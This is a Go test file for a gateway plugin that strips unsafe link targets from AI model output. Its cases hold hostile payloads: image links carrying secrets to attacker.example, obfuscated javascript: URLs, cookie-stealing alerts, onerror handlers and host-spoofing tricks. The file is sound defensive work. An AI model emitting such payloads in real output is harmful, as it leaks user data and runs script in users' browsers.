package mdlinks

import (
	"encoding/json"
	"math/rand/v2"
	"os"
	"strings"
	"sync"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/moat-gateway/moat/sdk/abi"
)

const testConfig = `{"allow_domains": ["ok.example", "bücher.example"]}`

func testAllow(t testing.TB) map[string]bool {
	a, err := parseAllow([]string{"ok.example", "bücher.example"})
	if err != nil {
		t.Fatal(err)
	}
	return a
}

func output(text string) abi.Verdict {
	return Output(abi.Request{Phase: abi.PhaseOutput, Text: text, Config: json.RawMessage(testConfig)})
}

func TestNeutralize(t *testing.T) {
	cases := []struct{ name, in, want string }{
		// exfiltration through images and links
		{"image query", "Done! ![x](https://attacker.example/?q=secret)", "Done! ![x](#blocked)"},
		{"link", "[click](https://attacker.example/c?d=1)", "[click](#blocked)"},
		{"title kept", `[a](https://evil.example "the title")`, `[a](#blocked "the title")`},
		{"angle destination", "[a](<https://evil.example/x y>)", "[a](<#blocked>)"},
		{"multi-line", "[a](\nhttps://evil.example\n)", "[a](\n#blocked\n)"},
		// schemes
		{"javascript", "[click](javascript:alert(1))", "[click](#blocked)"},
		{"javascript case", "[click](JaVaScRiPt:alert(1))", "[click](#blocked)"},
		{"javascript tab", "[click](<java\tscript:alert(1)>)", "[click](<#blocked>)"},
		{"entity decimal", "[a](&#106;avascript:alert(1))", "[a](#blocked)"},
		{"entity hex", "[a](jav&#x61;script:alert(1))", "[a](#blocked)"},
		{"entity named colon", "[a](javascript&colon;alert(1))", "[a](#blocked)"},
		{"backslash escape in scheme", `[a](java\script:alert(1))`, "[a](#blocked)"},
		{"data", "![p](data:image/png;base64,iVBORw0KGgo=)", "![p](#blocked)"},
		{"vbscript", "[a](vbscript:msgbox(1))", "[a](#blocked)"},
		{"file", "[a](file:///etc/passwd)", "[a](#blocked)"},
		{"protocol relative", "[a](//evil.example/x)", "[a](#blocked)"},
		{"relative", "[a](/api/steal?d=1)", "[a](#blocked)"},
		{"leading space control", "[a](<\x01javascript:alert(1)>)", "[a](<#blocked>)"},
		// hosts
		{"user info", "[a](https://ok.example@evil.example/)", "[a](#blocked)"},
		{"encoded user info", "[a](https://ok.example%40evil.example/)", "[a](#blocked)"},
		{"backslash host", `[a](https:\\evil.example\@ok.example)`, `[a](#blocked)`},
		{"no slashes", "[a](https:evil.example)", "[a](#blocked)"},
		{"subdomain", "[a](https://x.ok.example/)", "[a](#blocked)"},
		{"suffix", "[a](https://ok.example.evil.example/)", "[a](#blocked)"},
		{"homoglyph", "[a](https://οk.example/)", "[a](#blocked)"},
		{"bad port", "[a](https://ok.example:80x/)", "[a](#blocked)"},
		// references
		{"full reference", "[a][r]\n\n[r]: https://evil.example/?q=1", "[a][r]\n\n[r]: #blocked"},
		{"shortcut reference", "[r]\n\n[r]: <javascript:alert(1)> \"t\"", "[r]\n\n[r]: <#blocked> \"t\""},
		{"image reference", "![i][r]\n\n[r]: https://evil.example/p.png", "![i][r]\n\n[r]: #blocked"},
		{"unused definition", "text\n\n[r]: https://evil.example/", "text\n\n[r]: #blocked"},
		{"shared definition", "[a][r] [b][r]\n\n[r]: https://evil.example/", "[a][r] [b][r]\n\n[r]: #blocked"},
		// nesting
		{"nested brackets", "[a [b] c](https://evil.example)", "[a [b] c](#blocked)"},
		{"image in link", "[![img](https://evil.example/i.png)](https://ok.example/)", "[![img](#blocked)](https://ok.example/)"},
		{"link in image alt", "![[a](https://evil.example)](https://evil.example/i.png)", "![[a](#blocked)](#blocked)"},
		{"in list and quote", "- item\n  > [a](https://evil.example)", "- item\n  > [a](#blocked)"},
		// autolinks
		{"autolink", "see <https://evil.example/x?d=1>", `see \<https://evil.example/x?d=1>`},
		{"autolink javascript", "<javascript:alert(1)>", `\<javascript:alert(1)>`},
		{"autolink email", "<me@evil.example>", `\<me@evil.example>`},
		{"autolink allowed", "<https://ok.example/x>", "<https://ok.example/x>"},
		// raw HTML
		{"html a", `<a href="javascript:alert(1)">x</a>`, `<a href="#blocked">x</a>`},
		{"html img unquoted", "text <img src=https://evil.example/p.gif> more", "text <img src=#blocked> more"},
		{"html img single", "x <img src='https://evil.example/p.gif'/>", "x <img src='#blocked'/>"},
		{"html entity scheme", `x <a href="&#106;avascript:alert(1)">y</a>`, `x <a href="#blocked">y</a>`},
		{"html onerror", `x <img src="https://ok.example/a.png" onerror="fetch('//evil')">`, `x <img src="https://ok.example/a.png" onerror="#blocked">`},
		{"html srcset", `<img srcset="https://ok.example/a.png 1x, https://evil.example/b.png 2x">`, `<img srcset="#blocked">`},
		{"html block", "<div>\n<img src=\"https://evil.example/p.gif\">\n</div>", "<div>\n<img src=\"#blocked\">\n</div>"},
		{"html style url", `<p style="background:url(https://evil.example/x)">t</p>`, `<p style="#blocked">t</p>`},
		{"html case", `<A HREF="javascript:x">y</A>`, `<A HREF="#blocked">y</A>`},
		// left alone
		{"allowed link", "[docs](https://ok.example/docs?a=1#b)", "[docs](https://ok.example/docs?a=1#b)"},
		{"allowed http port", "[d](http://OK.example:8080/)", "[d](http://OK.example:8080/)"},
		{"allowed trailing dot", "[d](https://ok.example./)", "[d](https://ok.example./)"},
		{"allowed idn", "![b](https://bücher.example/x.png) [c](https://xn--bcher-kva.example/)", "![b](https://bücher.example/x.png) [c](https://xn--bcher-kva.example/)"},
		{"fragment", "[top](#top)", "[top](#top)"},
		{"empty", "[a]()", "[a]()"},
		{"code span", "use `[a](javascript:x)` and `<img src=x onerror=y>`", "use `[a](javascript:x)` and `<img src=x onerror=y>`"},
		{"fenced code", "```md\n[a](javascript:x)\n![i](https://evil.example/)\n```\n", "```md\n[a](javascript:x)\n![i](https://evil.example/)\n```\n"},
		{"indented code", "text\n\n    [a](javascript:x)\n", "text\n\n    [a](javascript:x)\n"},
		{"escaped brackets", `\[a\](javascript:x)`, `\[a\](javascript:x)`},
		{"no definition", "[1] and [2] are citations.", "[1] and [2] are citations."},
		{"comparison", "if a < b and c > d", "if a < b and c > d"},
		// unfinished at the end (a zero-width mark appended)
		{"unfinished bracket", "see [multi line", "see [multi line" + HoldMarker},
		{"unfinished link", "see [a](https://evil", "see [a](https://evil" + HoldMarker},
		{"unfinished label", "see [a]", "see [a]" + HoldMarker},
		{"unfinished definition", "[r]:\n", "[r]:\n" + HoldMarker},
		{"unfinished tag", "x <img src=\"https://ev", "x <img src=\"https://ev" + HoldMarker},
		{"unfinished nested", "[a [b] c", "[a [b] c" + HoldMarker},
		{"finished label", "see [a] ok", "see [a] ok"},
		{"finished paragraph", "see [a\n\ndone", "see [a\n\ndone"},
	}
	allow := testAllow(t)
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			res, err := Neutralize(tc.in, allow)
			if err != nil {
				t.Fatal(err)
			}
			if res.Text != tc.want {
				t.Fatalf("got  %q\nwant %q", res.Text, tc.want)
			}
			if bad := unsafeTargets(t, res.Text, allow); len(bad) > 0 {
				t.Fatalf("rendered output still has %q", bad)
			}
			if res.Text == tc.in && len(res.Findings) != 0 {
				t.Fatalf("unchanged text with findings %+v", res.Findings)
			}
		})
	}
}

// The hostile cases really are hostile: rendered without the plugin they
// have an unsafe target (so the test above checks something).
func TestHostileCasesAreHostile(t *testing.T) {
	allow := testAllow(t)
	for _, in := range []string{
		"![x](https://attacker.example/?q=secret)", "[a](jav&#x61;script:alert(1))", "[a](https://ok.example@evil.example/)",
		"[r]\n\n[r]: <javascript:alert(1)>", "<javascript:alert(1)>", `<img srcset="https://ok.example/a.png 1x, https://evil.example/b.png 2x">`,
		"[a](<java\tscript:alert(1)>)", `[a](https:\\evil.example\@ok.example)`,
	} {
		if len(unsafeTargets(t, in, allow)) == 0 {
			t.Errorf("renders without an unsafe target: %q", in)
		}
	}
}

func TestBenignGolden(t *testing.T) {
	b, err := os.ReadFile("testdata/benign.md")
	if err != nil {
		t.Fatal(err)
	}
	v := output(string(b))
	if v.Action != abi.Allow {
		t.Fatalf("benign Markdown changed: %s %q", v.Action, v.Reason)
	}
}

func TestOutputVerdicts(t *testing.T) {
	v := output("![x](https://attacker.example/?q=1) and [y](javascript:x)")
	if v.Action != abi.Modify || v.Reason != "markdown-links: neutralized 2 link target(s)" || len(v.Findings) != 2 {
		t.Fatalf("%+v", v)
	}
	for _, f := range v.Findings {
		if f.Rule != "unsafe-link" || f.Start >= f.End {
			t.Fatalf("finding %+v", f)
		}
	}
	if v := output("see [a"); v.Action != abi.Modify || !strings.Contains(v.Reason, "unfinished") {
		t.Fatalf("%+v", v)
	}
	for _, cfg := range []string{`{"allow_domains": ["https://ok.example"]}`, `{"allow_domains": ["a@b"]}`, `{"allow_domains": [""]}`, `{"allow_domains": "x"}`} {
		v := Output(abi.Request{Phase: abi.PhaseOutput, Text: "x", Config: json.RawMessage(cfg)})
		if v.Action != abi.Reject || !strings.HasPrefix(v.Reason, "markdown-links: ") {
			t.Errorf("config %s: %+v", cfg, v)
		}
	}
	// No config: nothing is allowed.
	if v := Output(abi.Request{Phase: abi.PhaseOutput, Text: "[a](https://ok.example/)"}); v.Action != abi.Modify {
		t.Fatalf("no allow list: %+v", v)
	}
}

// guard mirrors the gateway's incremental release rule (gateway/guard.go):
// the pending tail is judged whole, and a prefix cut after whitespace at
// least holdBack bytes from the end is released only when judging it and
// the rest apart gives the bytes of judging the tail.
type guard struct {
	holdBack int
	pending  string
	out      strings.Builder
	allow    map[string]bool
	log      func(in, seg, whole string)
}

func (g *guard) judge(t *testing.T, s string) string {
	res, err := Neutralize(s, g.allow)
	if err != nil {
		t.Fatal(err)
	}
	return res.Text
}

func (g *guard) feed(t *testing.T, delta string) {
	g.pending += delta
	if len(g.pending) < g.holdBack+16 {
		return
	}
	whole := g.judge(t, g.pending)
	cut := len(g.pending) - g.holdBack
	for cut > 0 {
		r, size := utf8.DecodeLastRuneInString(g.pending[:cut])
		if unicode.IsSpace(r) {
			break
		}
		cut -= size
	}
	if cut <= 0 {
		return
	}
	seg, rest := g.judge(t, g.pending[:cut]), g.judge(t, g.pending[cut:])
	if seg+rest != whole {
		return
	}
	if g.log != nil {
		g.log(g.pending[:cut], seg, whole)
	}
	g.out.WriteString(seg)
	g.pending = g.pending[cut:]
}

func (g *guard) flush(t *testing.T) string {
	g.out.WriteString(g.judge(t, g.pending))
	return g.out.String()
}

// Streamed in random pieces with a small hold-back, hostile documents still
// render without an unsafe target, and benign ones come out unchanged.
func TestStreamingHoldsBackUnfinishedLinks(t *testing.T) {
	allow := testAllow(t)
	hostile := []string{
		"Here is the summary you asked for, with a picture: ![chart of the results for the quarter](https://attacker.example/log?q=the+secret+value) and more text after it so the stream goes on.",
		"A long link text that spans the hold-back [click on this very long link text to see the full report with all details\nof the analysis](javascript:alert(document.cookie)) end.",
		"Reference style: [the report][ref] and more words here to make it long enough for the guard to release.\n\n[ref]:\n  https://attacker.example/?d=secret \"title\"\n\nTrailing paragraph.",
		"Raw HTML split over lines: <img\nalt=\"x\"\nsrc=\"https://attacker.example/p.gif?d=secret\"> and then <a\n  href=\"javascript:alert(1)\">click</a> done.",
		"Autolink: <https://attacker.example/very/long/path/that/keeps/going/on/and/on?d=secret> then text.",
		"[a](\n\n\nhttps://attacker.example/) separated by blank lines is not a link, but [b](\nhttps://attacker.example/x) is.",
	}
	benign, err := os.ReadFile("testdata/benign.md")
	if err != nil {
		t.Fatal(err)
	}
	rng := rand.New(rand.NewPCG(1, 2))
	for i, doc := range append(hostile, string(benign)) {
		for trial := range 40 {
			g := &guard{holdBack: 24 + rng.IntN(40), allow: allow}
			if os.Getenv("MDLINKS_DEBUG") != "" && i == 3 && trial == 0 {
				g.log = func(in, seg, whole string) { t.Logf("released %q as %q (whole %q)", in, seg, whole) }
			}
			for s := doc; s != ""; {
				n := min(len(s), 1+rng.IntN(12))
				for n < len(s) && !utf8.RuneStart(s[n]) {
					n++
				}
				g.feed(t, s[:n])
				s = s[n:]
			}
			got := g.flush(t)
			if bad := unsafeTargets(t, got, allow); len(bad) > 0 {
				t.Fatalf("doc %d trial %d: streamed output has %q:\n%s", i, trial, bad, got)
			}
			if i == len(hostile) && got != doc {
				t.Fatalf("trial %d: benign document changed when streamed:\n%s", trial, got)
			}
		}
	}
}

// Hostile documents from more callers than cores, with a shared config.
func TestConcurrent(t *testing.T) {
	docs := []string{"![x](https://attacker.example/?q=1)", "<a href=javascript:x>y</a>", strings.Repeat("[[[", 500), strings.Repeat("<a ", 500)}
	want := make([]string, len(docs))
	for i, d := range docs {
		want[i] = output(d).Text
	}
	var wg sync.WaitGroup
	for g := range 16 {
		wg.Go(func() {
			for k := range 40 {
				i := (g + k) % len(docs)
				if got := output(docs[i]).Text; got != want[i] {
					t.Errorf("doc %d: %q", i, got)
				}
			}
		})
	}
	wg.Wait()
}

// FuzzNeutralize: no input panics, the output never renders an unsafe
// target, and text the plugin leaves alone is returned as is.
func FuzzNeutralize(f *testing.F) {
	for _, s := range []string{"![x](https://attacker.example/?q=1)", "[a][r]\n\n[r]: javascript:x", "<img src=x onerror=y>", "`[a](b)`", "<https://evil.example>", "[a](<b>)", "x <a href='&#106;avascript:1'>"} {
		f.Add(s)
	}
	allow, err := parseAllow([]string{"ok.example"})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, s string) {
		res, err := Neutralize(s, allow)
		if err != nil {
			return // fails closed: the gateway rejects
		}
		if bad := unsafeTargets(t, res.Text, allow); len(bad) > 0 {
			t.Fatalf("input %q\noutput %q\nstill renders %q", s, res.Text, bad)
		}
		if len(res.Findings) == 0 && res.Text != s {
			t.Fatalf("changed without findings: %q -> %q", s, res.Text)
		}
	})
}

func BenchmarkNeutralizeBenign(b *testing.B) {
	doc, err := os.ReadFile("testdata/benign.md")
	if err != nil {
		b.Fatal(err)
	}
	req := abi.Request{Phase: abi.PhaseOutput, Text: string(doc), Config: json.RawMessage(testConfig)}
	b.SetBytes(int64(len(doc)))
	b.ReportAllocs()
	for b.Loop() {
		if v := Output(req); v.Action != abi.Allow {
			b.Fatal(v.Reason)
		}
	}
}
